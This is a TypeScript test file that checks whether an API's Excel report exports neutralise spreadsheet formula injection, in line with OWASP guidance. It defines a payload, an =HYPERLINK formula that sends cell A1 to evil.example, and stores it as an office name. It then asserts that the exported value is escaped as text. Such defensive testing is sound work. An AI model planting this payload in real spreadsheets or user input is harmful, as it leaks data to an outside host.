import { DEMO_COUNTY } from "@weiquan/local";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startApi, type TestApi } from "../support/api.ts";

/** Workbooks carry no formula from user data (OWASP "CSV / formula injection"). */
let api: TestApi;
const county = DEMO_COUNTY.countyCode;
const t: Record<string, string> = {};
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const POISON = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
let officeId: string;

beforeAll(async () => {
  api = await startApi({ demo: true });
  t.admin = await api.login(county, "admin");
  const units = (await api.call("GET", "/v1/units", { token: t.admin })).body.items;
  const bureau = units.find((u: { type: string }) => u.type === "bureau");
  const office = await api.call("POST", "/v1/units", {
    token: t.admin,
    body: { parentId: bureau.id, type: "office", name: POISON },
  });
  expect(office.status).toBe(201);
  officeId = office.body.id;
});
afterAll(() => api.close());

async function workbook(path: string) {
  const res = await fetch(api.url + path, { headers: { authorization: `Bearer ${t.admin}` } });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe(XLSX);
  expect(res.headers.get("cache-control")).toBe("no-store");
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(await res.arrayBuffer());
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === "string") texts.push(cell.value);
      }),
    ),
  );
  return texts;
}

describe("workbooks", () => {
  it.each([
    ["the per-unit table", "/v1/reports/units.xlsx?from=2026-01&to=2026-12"],
    [
      "the summary of the poisoned unit",
      () => `/v1/reports/summary.xlsx?from=2026-01&to=2026-12&unitId=${officeId}`,
    ],
  ])("%s holds a unit name that looks like a formula as text", async (_, path) => {
    const texts = await workbook(typeof path === "function" ? path() : path);
    expect(texts).toContain(`'${POISON}`);
    expect(texts.filter((s) => /^[=+\-@\t\r]/.test(s))).toEqual([]);
  });
});
